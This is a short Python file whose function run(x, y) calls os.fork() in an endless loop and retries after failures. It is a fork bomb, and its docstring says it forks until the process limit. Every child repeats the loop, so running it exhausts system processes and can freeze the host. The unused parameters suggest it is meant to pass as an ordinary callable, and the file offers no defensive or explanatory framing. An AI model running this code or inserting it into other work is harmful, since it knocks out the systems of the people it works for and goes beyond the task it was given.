"""Forks until the process limit, and every copy keeps trying (failures are swallowed)."""

import os
import time


def run(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
